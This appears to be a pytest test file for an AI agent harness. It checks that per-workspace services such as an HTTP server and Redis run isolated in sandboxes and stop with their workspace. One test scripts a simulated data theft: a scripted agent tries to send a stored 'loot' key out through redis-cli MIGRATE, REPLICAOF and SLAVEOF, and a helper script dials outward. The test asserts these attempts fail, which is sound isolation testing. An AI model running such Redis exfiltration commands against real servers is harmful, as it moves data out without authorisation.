"""Services per workspace: real processes started for each workspace in a sandbox with a network
of its own, reached from inside the agent's and the checks' sandboxes on the port the project
expects, reaching nothing but their own loopback, stopped with the workspace."""

from __future__ import annotations

import json
import shutil
import socket
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import Project

from jackline.testing import Replace, Round, ScriptedAgent

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

PY = sys.executable
# A real HTTP server per workspace; it serves its own data folder's name.
WEB = f"""
[services.web]
start = "echo svc-{{dir}} > {{dir}}/whoami && exec {PY} -m http.server {{port}} --bind 127.0.0.1 --directory {{dir}}"
port = 8080
env = {{ WEB_URL = "http://127.0.0.1:{{port}}" }}
"""
FETCH = (
    f'{PY} -c "import os, urllib.request; '
    "print(urllib.request.urlopen(os.environ['WEB_URL'] + '/whoami', timeout=5).read().decode().strip(), "
    "os.environ['JACKLINE_SERVICE_WEB_PORT'])\" > seen.txt"
)
CHECK_TEST = (
    "import os, urllib.request\n"
    "from calc import add\n\n"
    "def test_add():\n"
    "    assert add(2, 3) == 5\n\n"
    "def test_the_service_answers_in_the_check_too():\n"
    "    body = urllib.request.urlopen('http://127.0.0.1:8080/whoami', timeout=5).read()\n"
    "    assert body.startswith(b'svc-')\n"
)


def _agent(*commands: str) -> ScriptedAgent:
    return ScriptedAgent(
        [Round(edits={"calc.py": Replace("a - b", "a + b")}, commands=list(commands))]
    )


def _services(project: Project, run_id: str) -> list[dict]:  # type: ignore[type-arg]
    made = next(e for e in project.events(run_id) if e["kind"] == "workspace")
    return made.get("services", [])  # type: ignore[no-any-return]


def _record(workspace: str) -> dict:  # type: ignore[type-arg]
    """What the harness recorded of the workspace's one service."""
    (only,) = json.loads((Path(workspace + ".services") / "services.json").read_text())
    return only  # type: ignore[no-any-return]


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rpartition(")")[2].split()[0] != "Z"


def _gone(pid: int, within: float = 10) -> bool:
    deadline = time.time() + within
    while time.time() < deadline:
        if not _alive(pid):
            return True
        time.sleep(0.1)
    return False


def test_each_workspace_gets_its_own_service_reached_on_the_projects_port(
    project: Project,
) -> None:
    project.create(_agent(FETCH), extra=WEB, files={"test_calc.py": CHECK_TEST})

    first = project.jl_json("run", "Fix add")
    second = project.jl_json("run", "Fix add again")
    assert first["status"] == second["status"] == "awaiting_review", (first, second)

    pids, served = [], []
    for run in (first, second):
        assert _services(project, run["id"]) == [{"name": "web", "port": 8080, "alive": True}]
        record = _record(run["workspace"])
        seen = (Path(run["workspace"]) / "seen.txt").read_text().split()
        # Inside, port 8080 is this workspace's own server.
        assert seen == [f"svc-{record['data']}", "8080"]
        pids.append(record["pid"])
        served.append(seen[0])
    assert served[0] != served[1]
    assert all(_alive(p) for p in pids)

    # The data folder lives beside the workspace, not in it: the change holds no service files.
    assert "whoami" not in project.jl_json("show", first["id"])["handoff"]

    project.jl("reject", first["id"], "-m", "not this one", user="bob", ok=False)
    assert _gone(pids[0]), "the rejected run's service still runs"
    assert _alive(pids[1])
    project.jl("approve", second["id"], user="bob")
    assert project.jl_json("show", second["id"])["status"] == "merged"
    assert _gone(pids[1])


def test_a_warm_workspace_comes_with_its_services_running(project: Project) -> None:
    project.create(_agent(FETCH), extra=WEB + "\n[pool]\nsize = 1\n")
    project.jl_json("pool", "warm")
    slot = project.jl_json("pool", "status")["warm"][0]
    record = _record(slot["path"])
    assert _alive(record["pid"])
    assert slot["services"] == [{"name": "web", "port": 8080, "alive": True}]
    assert "services web:8080" in project.jl("pool", "status").stdout

    run = project.jl_json("run", "Fix add")
    assert run["status"] == "awaiting_review", run
    assert run["workspace"] == slot["path"]
    # The same server, started before the run asked.
    assert _record(run["workspace"])["pid"] == record["pid"]
    seen = (Path(run["workspace"]) / "seen.txt").read_text().split()[0]
    assert seen == f"svc-{record['data']}"

    project.jl("reject", run["id"], "-m", "no", user="bob", ok=False)
    assert _gone(record["pid"])
    deadline = time.time() + 60  # the refill's workspace has its own server
    while not project.jl_json("pool", "status")["warm"]:
        assert time.time() < deadline, "the pool did not refill"
        time.sleep(0.5)
    project.jl_json("pool", "clear")


def test_a_service_that_never_gets_ready_fails_the_run_and_shows_its_log(
    project: Project,
) -> None:
    extra = """
[services.db]
start = "echo database booting on {port}; sleep 60"
ready = "false"
ready_timeout = 2
"""
    project.create(_agent(), extra=extra)
    run = project.jl_json("run", "Fix add")
    assert run["status"] == "failed"
    assert "service 'db' was not ready within 2s" in run["reason"]
    error = next(e for e in project.events(run["id"]) if e["kind"] == "services")["error"]
    assert "database booting on" in error


def test_a_service_that_exits_at_once_fails_the_run(project: Project) -> None:
    project.create(_agent(), extra='\n[services.db]\nstart = "echo no such database; exit 3"\n')
    run = project.jl_json("run", "Fix add")
    assert run["status"] == "failed"
    assert "service 'db' exited with 3 before it was ready" in run["reason"]


@pytest.mark.skipif(shutil.which("redis-server") is None, reason="redis-server is not installed")
def test_two_runs_each_get_their_own_redis(project: Project) -> None:
    extra = """
[services.redis]
start = "redis-server --port {port} --bind 127.0.0.1 --dir {dir} --save '' --appendonly no"
ready = "redis-cli -p {port} ping"
port = 6379
"""
    write = "redis-cli -p 6379 get owner > before.txt; redis-cli -p 6379 set owner $RANDOM"
    project.create(_agent(write), extra=extra)
    first = project.jl_json("run", "Fix add")
    second = project.jl_json("run", "Fix add again")
    for run in (first, second):
        assert run["status"] == "awaiting_review", run
        # Each run's Redis is empty when it starts: the other run's key is not there.
        assert (Path(run["workspace"]) / "before.txt").read_text().strip() == ""
    pids = [_record(r["workspace"])["pid"] for r in (first, second)]
    assert pids[0] != pids[1]
    for run in (first, second):
        project.jl("reject", run["id"], "-m", "done", user="bob", ok=False)
    assert all(_gone(p) for p in pids)


def test_a_workspace_whose_mount_a_reboot_took_is_mounted_again(project: Project) -> None:
    import subprocess

    project.create(
        _agent(), extra='\n[workspace]\nsetup = ["echo built > built.txt"]\n[pool]\nsize = 1\n'
    )
    project.jl_json("pool", "warm")
    slot = project.jl_json("pool", "status")["warm"][0]
    if slot["method"] != "overlay":
        pytest.skip("overlay mounts are not allowed here")
    # What a reboot does to an overlay workspace: the mount is gone, the layers stay.
    subprocess.run(["umount", slot["path"]], check=True)
    assert not (Path(slot["path"]) / "calc.py").exists()

    run = project.jl_json("run", "Fix add")
    assert run["status"] == "awaiting_review", run
    assert run["workspace"] == slot["path"]
    assert "return a + b" in (Path(slot["path"]) / "calc.py").read_text()
    project.jl("reject", run["id"], "-m", "no", user="bob", ok=False)
    project.jl_json("pool", "clear")


def test_a_half_built_snapshot_a_crash_left_is_swept(project: Project) -> None:
    project.create(_agent(), extra='\n[workspace]\nsetup = ["echo built > built.txt"]\n')
    crashed = project.home / "snapshots" / ".build-deadbeef"
    crashed.mkdir(parents=True)
    (crashed / "half.txt").write_text("a builder died here\n")
    project.jl_json("pool", "warm", "--size", "0")
    assert not crashed.exists()


class _Listener:
    """A plain TCP listener on every host address, standing for somewhere the allowlist does not
    name: it answers nothing and records who connected and what they sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.port = self.server.getsockname()[1]
        self.heard: list[tuple[str, bytes]] = []

    def serve(self) -> None:
        while True:
            try:
                client, peer = self.server.accept()
            except OSError:
                return
            client.settimeout(1)
            try:
                data = client.recv(4096)
            except OSError:
                data = b""
            self.heard.append((peer[0], data))
            client.close()


@contextmanager
def _listening_on_the_host() -> Iterator[_Listener]:
    listener = _Listener()
    threading.Thread(target=listener.serve, daemon=True).start()
    try:
        yield listener
    finally:
        listener.server.close()


def _outside_address() -> str | None:
    """The host's own address on a network interface (the internet, as far as the test goes)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))  # UDP: picks the route, sends nothing
        except OSError:
            return None
        address = str(s.getsockname()[0])
    return None if address.startswith("127.") else address


REDIS = """
[services.redis]
start = "{dial}redis-server --port {{port}} --bind 127.0.0.1 --dir {{dir}} --save '' --appendonly no"
ready = "redis-cli -p {{port}} ping"
port = 6379
"""
# The service's own start command (a script in the repository) tries the same addresses first.
DIAL = (
    "import socket, sys\n"
    "for host in sys.argv[2:]:\n"
    "    try:\n"
    "        socket.create_connection((host, int(sys.argv[1])), timeout=2).sendall(b'start')\n"
    "    except OSError as e:\n"
    "        print('dial', host, e)\n"
)


@pytest.mark.skipif(shutil.which("redis-server") is None, reason="redis-server is not installed")
def test_a_workspace_redis_cannot_send_data_anywhere_but_its_own_loopback(
    project: Project,
) -> None:
    with _listening_on_the_host() as listener:
        hosts = ["127.0.0.1", *filter(None, [_outside_address()])]
        at = [f"{h} {listener.port}" for h in hosts]
        # The agent uses its Redis, then asks it to carry a key to the listener every way Redis
        # knows: MIGRATE (copies the key's value out), REPLICAOF and SLAVEOF (dial a master).
        attack = "; ".join(
            [
                "redis-cli -p 6379 set loot secret-value > used.txt",
                "redis-cli -p 6379 get loot >> used.txt",
                *(f"redis-cli -p 6379 migrate {a} loot 0 2000 >> out.txt 2>&1" for a in at),
                f"redis-cli -p 6379 replicaof {at[0]} >> out.txt 2>&1",
                "sleep 2",
                f"redis-cli -p 6379 slaveof {at[-1]} >> out.txt 2>&1",
                "sleep 2",
                "redis-cli -p 6379 replicaof no one >> out.txt 2>&1",
            ]
        )
        dial = f"{PY} dial.py {listener.port} {' '.join(hosts)}; "
        sandbox = (
            '\n[sandbox]\nallow_network = ["pypi.org"]\n'
            f"readable = [{json.dumps(str(project.root / 'agent.json'))}]\n"
        )
        project.create(
            _agent(attack), extra=REDIS.format(dial=dial) + sandbox, files={"dial.py": DIAL}
        )
        run = project.jl_json("run", "Fix add")
        assert run["status"] == "awaiting_review", run
        time.sleep(0.5)  # a last connection in flight reaches the listener
        heard = list(listener.heard)

    used = (Path(run["workspace"]) / "used.txt").read_text().split()
    project.jl("reject", run["id"], "-m", "done", user="bob", ok=False)  # its Redis ends with it
    # The agent still has its Redis, on the port the project expects.
    assert used == ["OK", "secret-value"]
    assert heard == [], f"the workspace's Redis reached the host's network: {heard}"


def test_the_services_forwarder_says_when_it_reached_the_service(tmp_path: Path) -> None:
    """`forward.py --serve`, run here without a sandbox: a connection on the harness's socket is
    answered `SERVED` only once the service on the loopback took it, else closed, so a readiness
    probe through it cannot mistake the forwarder for the service."""
    import os
    import subprocess

    from jackline.sandbox import forward

    with socket.socket(socket.AF_INET) as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    harness = socket.socket(socket.AF_UNIX)
    harness.bind(str(tmp_path / "svc.sock"))
    harness.listen(8)
    fd = harness.fileno()
    argv = forward.wrap(["sleep", "30"], 0, "", serve={fd: port})
    child = subprocess.Popen(argv, pass_fds=(fd,))
    harness.close()
    try:

        def dial() -> socket.socket:
            conn = socket.socket(socket.AF_UNIX)
            conn.settimeout(10)
            conn.connect(str(tmp_path / "svc.sock"))
            return conn

        with dial() as conn:  # nothing listens on the port yet
            assert conn.recv(16) == b""
        with socket.create_server(("127.0.0.1", port)) as service, dial() as conn:
            assert conn.recv(1) == forward.SERVED
            accepted, _ = service.accept()
            with accepted:
                conn.sendall(b"ping")
                assert accepted.recv(16) == b"ping"
                accepted.sendall(b"pong")
                assert conn.recv(16) == b"pong"
        # The command (the forwarder's child) does not get the socket.
        # The forwarder serves from its threads before its main thread starts the command:
        # under load the command may not be there yet when the service has answered.
        children = Path(f"/proc/{child.pid}/task/{child.pid}/children")
        deadline = time.monotonic() + 10
        while not children.read_text().split() and time.monotonic() < deadline:
            time.sleep(0.01)
        (command,) = children.read_text().split()
        held = [os.readlink(f"/proc/{command}/fd/{n}") for n in os.listdir(f"/proc/{command}/fd")]
        assert not [h for h in held if h.startswith("socket:")], held
    finally:
        child.kill()
        child.wait()
